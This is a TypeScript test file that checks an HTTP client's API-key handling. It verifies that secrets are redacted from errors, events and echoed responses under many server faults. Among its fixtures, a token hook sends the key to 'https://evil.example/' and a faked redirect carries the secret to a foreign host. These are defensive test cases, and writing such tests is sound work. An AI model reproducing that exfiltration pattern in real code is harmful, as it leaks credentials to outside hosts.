import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inspect } from 'node:util';
import { describe, expect, it, onTestFinished, vi } from 'vitest';
import type { ApiKeyPlace, SourceDefinition } from '../../src/index.ts';
import { ApiKeys } from '../../src/sources/api-keys.ts';
import { Redaction } from '../../src/sources/redaction.ts';
import { answer, chunked, RawServer, type RawRequest } from './raw-server.ts';
import { ClientScene, textOf } from './scene.ts';

const secret = 'sk/live+51 "Zq&9<x>%é';
const inBase64 = (before: string) => Buffer.from(`${before}${secret}`).toString('base64');
// Every form in which it could be seen by somebody who looks for it.
const forms = [
  secret,
  encodeURIComponent(secret),
  new URLSearchParams({ s: secret }).toString().slice(2),
  JSON.stringify(secret).slice(1, -1),
  inBase64(''),
  inBase64('u:'),
  inBase64('me:').slice(4),
  Buffer.from(secret).toString('hex'),
];

function expectNoSecret(...said: unknown[]): void {
  const text = said
    .map(
      (one) =>
        `${inspect(one, { depth: 9, maxStringLength: null, maxArrayLength: null, showHidden: true })} ${JSON.stringify(one)}`,
    )
    .join('\n')
    .toLowerCase();
  for (const form of forms) expect(text).not.toContain(form.toLowerCase());
  // Not even the middle of it.
  expect(text).not.toContain(secret.slice(3, 14).toLowerCase());
}

/** Puts the secret wherever a request can have one. */
const everywhere: NonNullable<SourceDefinition['authorize']> = (_request, { apiKey }) => ({
  query: { apikey: apiKey! },
  headers: {
    authorization: `Basic ${Buffer.from(`me:${apiKey}`).toString('base64')}`,
    'x-api-key': encodeURIComponent(apiKey!),
  },
});
/** A provider that says back all that it was told. */
const echo = ({ path, headers, body }: RawRequest) =>
  `${path} ${JSON.stringify(headers)} ${body} ${secret} ${JSON.stringify({ secret })} ${encodeURIComponent(secret)}`;

const faults: [string, (request: RawRequest) => Buffer | string | undefined][] = [
  ['400', (request) => answer(echo(request), {}, '400 Bad')],
  ['401', (request) => answer(echo(request), {}, '401 Who')],
  ['429', (request) => answer(echo(request), { 'retry-after': 1 }, '429 Slow')],
  ['500', (request) => answer(echo(request), {}, '500 Oops')],
  ['a long 500', (request) => answer(`${'x'.repeat(8_192 - 10)}${echo(request)}`, {}, '500 Oops')],
  ['silence', () => undefined],
  ['a cut', ({ socket }) => void socket.end(answer(secret, { 'content-length': 999 }))],
  ['a reset', ({ socket }) => void socket.resetAndDestroy()],
  [
    'too much',
    (request) =>
      answer(chunked(echo(request).repeat(100)), { 'content-length': undefined, 'transfer-encoding': 'chunked' }),
  ],
  ['a header bomb', () => answer('', { 'x-echo': encodeURIComponent(secret).repeat(1_000) })],
  ['garbage', () => `${secret}\r\n\r\n`],
  ['another encoding', () => answer('', { 'content-encoding': encodeURIComponent(secret) })],
  ['broken gzip', () => answer(secret, { 'content-encoding': 'gzip' })],
  [
    'another host',
    () =>
      answer(
        '',
        { location: `https://${Buffer.from(secret).toString('hex')}.example/?k=${encodeURIComponent(secret)}` },
        '302 Go',
      ),
  ],
  ['a circle', () => answer('', { location: `/again?k=${encodeURIComponent(secret)}` }, '302 Go')],
  ['no address', () => answer('', { location: `http://[${encodeURIComponent(secret)}` }, '302 Go')],
];

describe('an API key is not in what is said about', () => {
  it.each(faults)('%s', async (_name, fault) => {
    const server = await RawServer.start((request) => fault(request));
    const scene = ClientScene.of(
      server,
      { apiKeys: [{ env: 'KEY' }], authorize: everywhere, timeout: 300, maxWireBytes: '20KB' },
      { env: { KEY: secret } },
    );
    // The caller may have written it into the path himself.
    const failed = await scene.fails({ method: 'POST', url: `/quote/${encodeURIComponent(secret)}`, body: { secret } });
    expect(server.requests.length).toBeGreaterThan(0);
    expect(server.requests[0]!.headers['x-api-key']).toBe(encodeURIComponent(secret));
    expectNoSecret(
      failed,
      failed.message,
      failed.stack,
      failed.cause,
      scene.events,
      failed.answer && textOf({ body: failed.answer }),
    );
  });

  it.each<[string, Partial<SourceDefinition>]>([
    [
      'a hook that tells it',
      {
        authorize: (_, { apiKey }) => {
          throw new Error(`bad key ${apiKey}`);
        },
      },
    ],
    [
      'a hook that puts it where it cannot be',
      { authorize: (_, { apiKey }) => ({ headers: { 'x-key': `${apiKey}\n` } }) },
    ],
    ['a hook that makes a header of it', { authorize: (_, { apiKey }) => ({ headers: { [apiKey!]: 'x' } }) }],
    ['a hook that makes a host of it', { authorize: (_, { apiKey }) => ({ url: `https://${apiKey}/` }) }],
    ['a token that fails', { token: ({ apiKey }) => Promise.reject(new Error(`no token for ${apiKey}`)) }],
    [
      'a token call elsewhere',
      { token: async ({ apiKey, call }) => (await call({ url: `https://evil.example/${apiKey}` }), { token: 'x' }) },
    ],
  ])('%s', async (_name, definition) => {
    const server = await RawServer.start(() => answer());
    const scene = ClientScene.of(server, { apiKeys: [{ env: 'KEY' }], ...definition }, { env: { KEY: secret } });
    const failed = await scene.fails();
    expect(failed.outcome).toBe('config');
    expectNoSecret(failed, failed.message, failed.stack, scene.events);
  });

  it('a token, which is one too', async () => {
    const server = await RawServer.start(({ headers }) => answer(`${headers['authorization']}`, {}, '500 Oops'));
    const scene = ClientScene.of(server, { token: () => Promise.resolve({ token: 'token-of-today' }) });
    const failed = await scene.fails();
    expect(textOf({ body: failed.answer! })).toBe('[redacted]');
    expect(scene.client.redact('it was token-of-today')).toBe('it was [redacted]');
  });

  it('a signature that was made for one call', async () => {
    const server = await RawServer.start(({ headers }) => answer(`expected ${headers['x-sign']}, x`, {}, '403 No'));
    const scene = ClientScene.of(server, { authorize: () => ({ headers: { 'x-sign': 'v1=c2lnbmF0dXJl' } }) });
    expect(textOf({ body: (await scene.fails()).answer! })).toBe('expected [redacted], x');
  });

  it('an answer that is looked at later', async () => {
    const server = await RawServer.start((request) => answer(echo(request)));
    const scene = ClientScene.of(
      server,
      { apiKeys: [{ env: 'KEY' }], authorize: everywhere },
      { env: { KEY: secret } },
    );
    const got = await scene.call();
    expectNoSecret(scene.client.redact(textOf(got)), scene.events);
  });
});

describe('an API key', () => {
  const keyOf = async (place: ApiKeyPlace, env: Record<string, string> = {}) => {
    const server = await RawServer.start(({ path }) => answer(JSON.stringify(path.slice(4))));
    const scene = ClientScene.of(
      server,
      { apiKeys: [place], authorize: (_, { apiKey }) => ({ query: { k: apiKey! } }) },
      { env },
    );
    return scene;
  };

  it('is in the environment', async () => {
    const scene = await keyOf({ env: 'MARKET_KEY' }, { MARKET_KEY: ' abc-123\n' });
    expect(textOf(await scene.call('/'))).toBe('"abc-123"');
  });

  it('is in a file', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'pgfresh-keys-'));
    onTestFinished(() => rm(folder, { recursive: true }));
    const file = join(folder, 'key');
    await writeFile(file, 'abc-456\n');
    expect(textOf(await (await keyOf({ file })).call('/'))).toBe('"abc-456"');
    await writeFile(file, 'abc\n456\n');
    expect((await (await keyOf({ file })).fails('/')).message).toMatch(/expected an API key of one line in the file/);
  });

  it('in a file is read again after a minute, so that it can be replaced', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'pgfresh-keys-'));
    onTestFinished(() => rm(folder, { recursive: true }));
    vi.useFakeTimers({ toFake: ['performance'] });
    onTestFinished(() => void vi.useRealTimers());
    const file = join(folder, 'key');
    await writeFile(file, 'old');
    const keys = new ApiKeys([{ file }], {});
    expect(await keys.key(0)).toBe('old');
    await writeFile(file, 'new');
    vi.advanceTimersByTime(59_000);
    expect(await keys.key(0)).toBe('old');
    vi.advanceTimersByTime(1_001);
    expect(await keys.key(0)).toBe('new');
  });

  it.each<[string, ApiKeyPlace, Record<string, string>, RegExp]>([
    ['that is not set', { env: 'NOPE' }, {}, /expected an API key in the variable NOPE, got nothing$/],
    ['that is empty', { env: 'NOPE' }, { NOPE: ' ' }, /expected an API key in the variable NOPE, got nothing$/],
    [
      'of a missing file',
      { file: '/nowhere/key' },
      {},
      /expected an API key in the file \/nowhere\/key, .*\(ENOENT\)$/,
    ],
    ['of a folder', { file: tmpdir() }, {}, /which cannot be read \(EISDIR\)$/],
  ])('%s is a mistake of the configuration', async (_name, place, env, message) => {
    const failed = await (await keyOf(place, env)).fails('/');
    expect(failed).toMatchObject({ outcome: 'config', calls: 0 });
    expect(failed.message).toMatch(message);
  });

  it.each([-1, 1, 0.5])('of the number %s is not there', async (apiKey) => {
    const failed = await (await keyOf({ env: 'A' }, { A: 'x' })).fails('/', { apiKey });
    expect(failed).toMatchObject({
      outcome: 'config',
      message: expect.stringMatching(/expected an API key from 0 to 0, got/),
    });
  });
});

it.each(['short', 'sk_live_0123456789', secret, 'x+y/z==', '$&$1\\', '(.*)'])('takes %s out of a text', (one) => {
  const redaction = new Redaction([one]);
  const seen = [
    one,
    one.toUpperCase(),
    encodeURIComponent(one),
    JSON.stringify(one).slice(1, -1),
    Buffer.from(one).toString('hex'),
  ];
  for (const form of seen) expect(redaction.text(`[${form}]`)).not.toContain(form);
  expect(redaction.text('')).toBe('');
});

it('takes a secret out of base64 whatever stands around it', () => {
  const redaction = new Redaction(['sk_live_0123456789']);
  for (const before of ['', 'a', 'ab', 'abc', 'user:']) {
    for (const after of ['', 'x', 'xy']) {
      const text = redaction.text(Buffer.from(`${before}sk_live_0123456789${after}`).toString('base64'));
      expect(Buffer.from(text, 'base64').toString('latin1')).not.toContain('live');
      expect(text).toContain('[redacted]');
    }
  }
});

it('forgets old tokens rather than collect them for ever', () => {
  const redaction = new Redaction();
  for (let n = 0; n < 1_000; n++) {
    redaction.add('the-api-key');
    redaction.add(`token-number-${n}!`);
  }
  const text = redaction.text('the-api-key token-number-999! token-number-0!');
  expect(text).toBe('[redacted] [redacted] token-number-0!');
});
